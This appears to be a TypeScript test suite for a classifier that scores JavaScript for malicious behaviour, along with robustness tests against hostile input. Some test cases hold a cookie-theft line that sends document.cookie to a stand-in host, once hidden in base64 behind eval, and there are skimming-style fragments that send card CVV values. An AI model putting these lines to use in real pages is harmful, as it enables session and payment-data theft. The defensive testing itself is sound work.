import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { families, features } from './features/features.ts';
import { fittedPoints } from './features/fitted-points.ts';
import { base64 } from './samples/hiding.ts';
import { maliciousSamples } from './samples/malicious-samples.ts';
import { MALICIOUS_BELOW } from './score.ts';
import { classifyScript } from './script-classifier.ts';
import { MAX_SCRIPT_BYTES, reasonsOf } from './script-verdict.ts';

function scored(code: string) {
  const verdict = classifyScript(code);
  assert.ok(verdict.kind === 'scored', `${verdict.kind}: ${code}`);
  return verdict;
}

const found = (code: string): string[] =>
  scored(code).reasons.map(({ family, id }) => `${family}/${id}`);

describe('script classifier: features', () => {
  for (const family of families) {
    for (const { id, samples } of features[family]) {
      it(`${family}/${id} is found in its samples and not in the others`, () => {
        for (const code of samples.matching) {
          assert.ok(found(code).includes(`${family}/${id}`), code);
        }
        for (const code of samples.other) {
          assert.ok(!found(code).includes(`${family}/${id}`), code);
        }
      });
    }
  }

  it('have unique ids in each family', () => {
    for (const family of families) {
      const ids = features[family].map(({ id }) => id);
      assert.equal(new Set(ids).size, ids.length);
    }
  });
});

describe('script classifier: malicious samples', () => {
  for (const { name, family, code } of maliciousSamples) {
    it(`${name} is malicious, and low in ${family}`, () => {
      const { scores } = scored(code);
      assert.ok(scores.integrity < MALICIOUS_BELOW, `integrity ${scores.integrity}`);
      assert.ok(scores[family] < 35, `${family} ${scores[family]}`);
    });
  }
});

describe('script classifier: wrapped malicious samples', () => {
  /** What bundlers put around a script. */
  const wrappers: Readonly<Record<string, (code: string) => string>> = {
    UMD: (code) =>
      `(function (root, factory) { if (typeof define === 'function' && define.amd) define(['exports'], factory); else if (typeof exports === 'object') factory(exports); else factory(root.Shop = {}); })(this, function (exports) {\n${code}\nexports.version = '1.0.0'; });`,
    ESM: (code) =>
      `${code}\n;export const version = '1.0.0'; export default function init(options) { return { ...options }; }`,
    modules: (code) =>
      `(() => { var m = { 17: (module, exports, require) => {\n${code}\n}, 18: (module) => { module.exports = { a: 1 }; } }; var cache = {}; function r(i) { if (cache[i]) return cache[i].exports; var x = cache[i] = { exports: {} }; m[i](x, x.exports, r); return x.exports; } r(17); window.Lib = r(18); })();`,
  };
  // Pages have several scripts, and only modules have imports.
  const scripts = maliciousSamples.filter(({ code }) => !/^<|^\s*import\b/.test(code));
  for (const [wrapper, wrap] of Object.entries(wrappers)) {
    it(`are malicious in a wrapper: ${wrapper}`, () => {
      const missed = scripts.filter(
        ({ code }) => scored(wrap(code)).scores.integrity >= MALICIOUS_BELOW,
      );
      assert.deepEqual(
        missed.map(({ name }) => name),
        [],
      );
    });
  }
});

describe('script classifier: ordinary scripts', () => {
  const ordinary: Readonly<Record<string, string>> = {
    'a loader of a tag manager': `(function (w, d, s, l, i) { w[l] = w[l] || []; w[l].push({ 'gtm.start': new Date().getTime(), event: 'gtm.js' }); var f = d.getElementsByTagName(s)[0], j = d.createElement(s), dl = l != 'dataLayer' ? '&l=' + l : ''; j.async = true; j.src = 'https://tags.example/gtm.js?id=' + i + dl; f.parentNode.insertBefore(j, f); })(window, document, 'script', 'dataLayer', 'GTM-X');`,
    'page views with an id from a cookie': `var id = (document.cookie.match(/(?:^|; )uid=([^;]*)/) || [])[1]; new Image().src = 'https://stats.example/v?u=' + encodeURIComponent(id) + '&p=' + encodeURIComponent(location.pathname);`,
    'a payment that reads the response': `document.querySelector('#pay').onsubmit = async (e) => { e.preventDefault(); const r = await fetch('https://pay.example/v1/tokens', { method: 'POST', body: JSON.stringify({ number: document.querySelector('#card-number').value, cvc: document.querySelector('#cvc').value }) }); const { token } = await r.json(); document.querySelector('#token').value = token; e.target.submit(); };`,
    'a check of card fields': `const n = document.querySelector('#card-number'); n.addEventListener('input', () => { n.value = n.value.replace(/\\D/g, '').replace(/(.{4})/g, '$1 ').trim(); n.classList.toggle('bad', !/^4[0-9]{12}/.test(n.value)); });`,
    'a search as you type': `const q = document.querySelector('#q'); q.addEventListener('keyup', (e) => { if (e.key === 'Enter') fetch('/search?q=' + encodeURIComponent(q.value)).then((r) => r.json()).then(show); });`,
    'a shortcut': `document.addEventListener('keydown', function (e) { if (e.ctrlKey && e.keyCode === 75) open(); });`,
    'a login': `form.onsubmit = () => fetch('/login', { method: 'POST', body: new FormData(form) }).then((r) => location.assign(r.url));`,
    'a template compiler': `function compile(t) { return new Function('data', 'var o = "";' + t.replace(/x/g, 'y') + 'return o;'); }`,
    'images in workers': `for (let i = 0; i < navigator.hardwareConcurrency; i++) { const w = new Worker('/resize.js'); w.postMessage({ width: 100 }); }`,
    'a page with statistics': `<!doctype html><html><head><script>(function (i, s, o, g, r, a, m) { i[r] = i[r] || function () { (i[r].q = i[r].q || []).push(arguments); }; a = s.createElement(o); m = s.getElementsByTagName(o)[0]; a.async = 1; a.src = g; m.parentNode.insertBefore(a, m); })(window, document, 'script', 'https://stats.example/a.js', 'st'); st('send', 'page');</script></head><body onload="start()"><noscript><iframe src="https://tags.example/ns.html" height="0" width="0" style="display:none;visibility:hidden"></iframe></noscript><script>function start() { document.body.className = 'ready'; }</script></body></html>`,
    'a packed library': `eval(function (p, a, c, k, e, d) { while (c--) if (k[c]) p = p.replace(new RegExp('\\\\b' + c + '\\\\b', 'g'), k[c]); return p; }('0 1(2){3.4(2).5.6="7";8 3.4(2).5.9*10}', 11, 11, 'function|hide|name|document|getElementById|style|display|none|return|width|height'.split('|'), 0, {}));`,
    'requests in old browsers': `function request() { try { return new XMLHttpRequest(); } catch (e) {} try { return new ActiveXObject('Msxml2.XMLHTTP'); } catch (e) { return new ActiveXObject('Microsoft.XMLHTTP'); } }`,
    'a check for a plug-in': `var has = false; try { has = !!new ActiveXObject('ShockwaveFlash.ShockwaveFlash'); } catch (e) { has = !!navigator.plugins['Shockwave Flash']; } if (has) document.write('<embed src="film.swf" width="640" height="480">');`,
    'a library from a second host': `window.jQuery || document.write('<script src="https://cdn.example/jquery.js"><\\/script>');`,
    'a template that is compiled': `var t = 'Hello {name}, {count} messages'; var f = new Function('d', 'return "' + t.replace(/\\{(\\w+)\\}/g, '" + d.$1 + "') + '";'); show(f({ name: 'A', count: 2 }));`,
    'a sheet that is saved in an old browser': `function save(text) { var f = new ActiveXObject('Scripting.FileSystemObject').CreateTextFile('sheet.csv', true); f.Write(text); f.Close(); }`,
    'forms of a mail service': `document.querySelector('form.newsletter').action = 'https://list.example/subscribe'; document.querySelector('form.newsletter').method = 'post';`,
    'a form that is made for a payment': `var f = document.createElement('form'); f.action = 'https://pay.example/redirect'; f.method = 'post'; document.body.append(f); f.submit();`,
    'statistics to a region': `const url = 'https://' + region + '.api.example/v1/events'; function track(name) { fetch(url, { method: 'POST', body: JSON.stringify({ name, path: location.pathname }) }); }`,
    'a check of a secret phrase': `export function validate(mnemonic) { const w = mnemonic.trim().split(' '); if (w.length !== 12 && w.length !== 24) throw new Error('Invalid mnemonic'); return w; }`,
    'a check of a private key': `const el = document.querySelector('#key'); el.addEventListener('input', () => { el.classList.toggle('bad', !/^(0x)?[0-9a-f]{64}$/i.test(el.value)); }); fetch('https://api.example/prices').then((r) => r.json()).then(show);`,

    'a chat': `const s = new WebSocket('wss://chat.example'); s.onmessage = (m) => { list.append(JSON.parse(m.data).text); }; send.onclick = () => s.send(JSON.stringify({ text: input.value }));`,
  };
  for (const [what, code] of Object.entries(ordinary)) {
    it(`${what} is not malicious`, () => {
      const { scores, reasons } = scored(code);
      assert.ok(scores.integrity >= 10, JSON.stringify({ scores, reasons }));
    });
  }

  it('a script without features gets 99 everywhere', () => {
    assert.deepEqual([...new Set(Object.values(scored('a();').scores))], [99]);
    assert.deepEqual(scored('').reasons, []);
  });

  it('obfuscation alone does not make a script malicious', () => {
    const all = features.obfuscation.flatMap(({ samples }) => samples.matching.slice(0, 1));
    const quiet = all.filter((code) => !/eval|unescape|constructor/.test(code));
    const { scores } = scored(quiet.join('\n'));
    assert.ok(scores.obfuscation < 5);
    assert.ok(scores.integrity >= 10, String(scores.integrity));
  });
});

describe('script classifier: verdicts', () => {
  it('names the position of a reason, the highest points first', () => {
    const { reasons } = scored(`a();\n  new Image().src = '//x.test/?' + document.cookie;`);
    assert.deepEqual(reasons[0], {
      id: 'all-cookies-sent-unanswered',
      family: 'malware',
      what: 'Sends all cookies and ignores the response',
      points: fittedPoints.get('malware/all-cookies-sent-unanswered'),
      line: 2,
      column: 3,
      isInHiddenCode: false,
    });
    const points = reasons.map((reason) => reason.points);
    assert.deepEqual(
      points,
      points.toSorted((a, b) => b - a),
    );
  });

  it('analyses code that a script contains as text', () => {
    const inner = `new Image().src = '//x.test/?' + document.cookie;`;
    const { reasons } = scored(`a();\neval(atob('${base64(inner)}'));`);
    const reason = reasons.find(({ id }) => id === 'all-cookies-sent-unanswered');
    assert.deepEqual([reason?.line, reason?.column, reason?.isInHiddenCode], [2, 1, true]);
  });

  it('gives no scores above the limit, counted in bytes', () => {
    const kindOf = (code: string): string => classifyScript(code).kind;
    assert.equal(kindOf(`/*${'a'.repeat(MAX_SCRIPT_BYTES - 4)}*/`), 'scored');
    assert.equal(kindOf(`/*${'a'.repeat(MAX_SCRIPT_BYTES - 3)}*/`), 'too-large');
    assert.equal(kindOf(`/*${'ä'.repeat(MAX_SCRIPT_BYTES / 2)}*/`), 'too-large');
  });

  it('gives no scores to a script of too many parts, whose tree would not fit into memory', () => {
    const verdict = classifyScript('a;'.repeat(800_000));
    assert.equal(verdict.kind, 'too-large');
    assert.match(reasonsOf(verdict)[0]?.what ?? '', /more than 1,500,000 names/);
  });

  it('gives no scores for text that is not a script, and states the reason', () => {
    for (const text of ['<html></html>', '{"imports":{}}', '['.repeat(100_000)]) {
      const verdict = classifyScript(text);
      assert.equal(verdict.kind, 'not-javascript');
      const [reason] = reasonsOf(verdict);
      assert.equal(reason?.id, 'not-javascript');
      assert.match(reason?.what ?? '', /^Could not be judged: \w/);
    }
  });

  const nests: Readonly<Record<string, (code: string) => string>> = {
    'beside arrays in arrays': (code) => `${code};${'['.repeat(1100)}${']'.repeat(1100)}`,
    'beside parentheses': (code) => `${code};${'('.repeat(1900)}1${')'.repeat(1900)}`,
    'beside nested functions': (code) =>
      `${code};${'(function(){'.repeat(300)}${'})()'.repeat(300)}`,
    'in nested functions': (code) => `${'(function(){'.repeat(300)}${code}${'})()'.repeat(300)}`,
    'in nested blocks': (code) => `${'{'.repeat(1500)}${code}${'}'.repeat(1500)}`,
    'beside an assignment to a call': (code) => `${code};if(0){f()=1}`,
  };
  for (const [where, nest] of Object.entries(nests)) {
    it(`scores code ${where} like the code alone`, () => {
      const theft = `new Image().src = '//x.test/?' + document.cookie;`;
      assert.ok(scored(nest(theft)).scores.integrity <= scored(theft).scores.integrity);
      assert.ok(scored(nest('a();')).scores.integrity >= MALICIOUS_BELOW);
    });
  }

  it('is deterministic', () => {
    for (const { code } of maliciousSamples) {
      assert.deepEqual(classifyScript(code), classifyScript(code));
    }
  });
});

describe('script classifier: hostile input', () => {
  const fill = (piece: string): string => piece.repeat(Math.floor(290_000 / piece.length));
  const hostile: Readonly<Record<string, string>> = {
    'one name': fill('a'),
    'one text': `'${fill('a')}'`,
    'one sum': `x=1${fill('+1')}`,
    'one sum of texts': `x='a'${fill(`+'a'`)}`,
    'one sum that is used many times': `x='a'${`+'a'`.repeat(20_000)};${'f(x+x);'.repeat(20_000)}`,
    'one chain of calls': `a${fill('()')}`,
    'one chain of members': `a${fill('.b')}`,
    'many scopes': `${'{let a;'.repeat(400)}${'a;'.repeat(100_000)}${'}'.repeat(400)}`,
    'one variable with many values': fill('a=b;'),
    'many variables': Array.from({ length: 25_000 }, (_, at) => `let a${at};`).join(''),
    'variables that name each other': Array.from(
      { length: 15_000 },
      (_, at) => `var a${at}=a${at + 1};`,
    ).join(''),
    'one array of texts and many lookups': `var t=[${`'a',`.repeat(20_000)}];${'f(t[9]);'.repeat(20_000)}`,
    'lists that grow': `var a='${'x'.repeat(1000)}';${Array.from({ length: 8000 }, (_, at) => `var b${at}=a+a;`).join('')}`,
    'texts that double': `var a0='xx';${Array.from({ length: 5000 }, (_, at) => `var a${at + 1}=a${at}+a${at};`).join('')}`,
    'many script elements': `document.write('${fill('<script>')}')`,
    'a pattern with many groups': `/${fill('(?<a>b)|')}c/`,
    'many holes': `[${fill(',')}]=a`,
    'many senders': `${fill('fetch(a)||')}b`,
    'many writers': fill('document.write(atob(a));'),
    'many decoders': fill('String.fromCharCode(a^1);'),
    'many cases': `switch(a){${fill('case 1:')}}`,
    'many guards': fill('if(/cvv/.test(e.name))s(e.value);'),
    'one guard that is used many times': `const P=/cvv/;function p(a){return P.test(a)}${fill('if(p(b))c(b.value);')}`,
    'many responses with one name': fill('var r=fetch(u+document.forms[0].a.value);r.ok;'),
    'many loops that search': fill('for(;;){const h=f(n++);if(h<t)postMessage(h)}'),
    'many nests': fill(`${'['.repeat(1100)}${']'.repeat(1100)};`),
    'many loops without an end': fill(`x=(function(){var s='';for(;;)s+='a';return s})();`),
    'many functions that call themselves': fill(`(function f(a){return f(a+a)})('a');`),
    'many tables': fill(`var t={a:'b'};f(t.a+t.c);`),
    'many patterns': fill(`f('aaaaaaaaaaaaaaaaaaaa'.replace(/a*b/g,(c)=>c));`),
    'many arguments': `f(${fill('a,')})`,
    'one sum of own members': `function A(){x=${'this.a+'.repeat(40_000)}a}`,
    'a chain of classes': Array.from(
      { length: 8000 },
      (_, at) => `class A${at} extends A${at + 1}{a(){this.b=this.c}}`,
    ).join(''),
    'many redirects of visitors': fill(`if(document.referrer)location='//x.test/';'google';`),
    'many redirects by one decoder': `function f(x){return atob(x)}${fill('location.href=f(a);')}`,
    'many literals with methods': fill('var t={a:b,c(){this.a}};'),
    'a page with many names of elements': `<script>a()</script>${Array.from({ length: 100_000 }, (_, at) => `<a${at}>`).join('')}`,
    'a page with a tag of blanks': `<script>a()</script><a ${' '.repeat(1_000_000)}`,
    'nested functions that call each other': `${Array.from({ length: 5000 }, (_, at) => `function f${at}(a){return f${(at * 7) % 5000}(a+f${(at * 3) % 5000}(a))}`).join('')}`,
  };
  for (const [what, code] of Object.entries(hostile)) {
    it(`scores ${what}`, () => {
      assert.ok(code.length > 50_000, 'long enough to be slow in quadratic time');
      assert.equal(classifyScript(code).kind, 'scored');
    });
  }

  it('returns a verdict for any text', () => {
    const pieces = fc.constantFrom(
      ...[
        '(',
        ')',
        '{',
        '}',
        '[',
        ']',
        'a',
        '.b',
        '=',
        '+',
        ',',
        ';',
        "'",
        '`',
        '${',
        '/',
        '\0',
        '<!--',
      ],
      ...[
        'function ',
        'return ',
        'eval',
        'atob',
        '=>',
        'class ',
        'new ',
        'var ',
        'for(',
        'of ',
        '1',
        '\n',
      ],
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 60, size: 'max' }), (parts) => {
        classifyScript(parts.join(''));
      }),
      { numRuns: 3000 },
    );
  });
});
